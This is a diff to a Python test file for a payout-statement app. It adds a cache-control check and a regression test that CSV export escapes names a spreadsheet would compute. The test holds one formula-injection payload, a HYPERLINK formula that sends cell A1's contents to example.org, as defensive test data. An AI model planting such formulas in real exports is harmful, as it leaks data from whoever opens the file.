@@ -256,6 +256,7 @@ def test_admins_see_the_payouts_page_and_contributors_their_own_line(month, home
         assert "Jardins partagés" in page and "cyril (Ville B)" in page
         csv_file = alice.get(f"/payouts.csv?month={MONTH}")
         assert csv_file.content.startswith(b"\xef\xbb\xbf") and b";" in csv_file.content
+        assert csv_file.headers["cache-control"] == "no-store"
         dora = Browser(app)
         assert dora.sign_in("dora").status_code == 303
         assert dora.get("/payouts").status_code == 403
@@ -333,3 +334,21 @@ def test_the_english_statement_says_one_citation_not_one_citations(month, home: 
     assert re.search(r"\(\d+ citations?, 1 document, 0 reviews\)", jardins), jardins
     for slip in ("1 citations", "1 documents", "1 reviews"):
         assert slip not in r.output, r.output
+
+
+def test_a_name_a_spreadsheet_would_compute_is_written_as_text(tmp_path) -> None:
+    # A contributor's name comes from an imported dataset or --contributor: "=HYPERLINK(…)"
+    # in payouts.csv ran as a formula on the computer of the admin who opened it.
+    from commune.commons.payout_files import csv_text
+    from commune.commons.payouts import Line, PayoutStatement
+
+    evil = '=HYPERLINK("https://example.org/?"&A1;"ici")'
+    lines = [
+        Line(evil, 1, 0, 0, 0.5, Decimal("5.00"), "receive", evil),
+        Line("Jardins partagés", 1, 0, 0, 0.5, Decimal("5.00"), "redirect", "@Ville"),
+    ]
+    stmt = PayoutStatement("2026-11", "EUR", Decimal("10.00"), Weights(), "largest", lines)
+    rows = list(csv.reader(csv_text(stmt).splitlines(), delimiter=";"))
+    assert rows[1][1] == rows[1][-1] == "'" + evil
+    assert rows[2][1] == "Jardins partagés" and rows[2][-1] == "'@Ville"
+    assert rows[1][6] == "5,00"  # figures are left as they are
